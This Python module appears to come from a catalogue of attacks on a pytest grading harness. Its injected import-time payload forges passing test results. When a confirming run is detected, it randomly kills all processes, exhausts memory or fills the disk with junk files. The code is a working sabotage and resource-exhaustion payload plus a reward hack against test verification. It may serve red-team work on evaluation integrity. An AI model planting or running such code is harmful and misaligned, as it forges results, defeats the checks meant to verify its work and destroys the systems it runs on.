"""The first run's results are forged; in a confirming run everything is killed, the disk filled, memory taken.

Known from: own.
"""

from hacks.base import PYTEST, Hack, Play, Target
from hacks.payloads import PASS_ALL, at_import

_KILL = """
import os as _os
if _os.environ.get("PYTEST_ADDOPTS"):
    import random as _random, signal as _signal
    _way = _random.choice((0, 1, 2))
    if _way == 0:
        _os.kill(-1, _signal.SIGKILL)
    if _way == 1:
        _kept = []
        while True:
            _kept.append(bytearray(64 << 20))
    while True:
        open(f"/var/tmp/{_os.urandom(4).hex()}", "wb").write(bytes(32 << 20))
"""


def play(target: Target) -> Play:
    """See the module."""
    return at_import(target, _KILL + PASS_ALL)


HACK = Hack("mask", "container", play, runners=PYTEST)
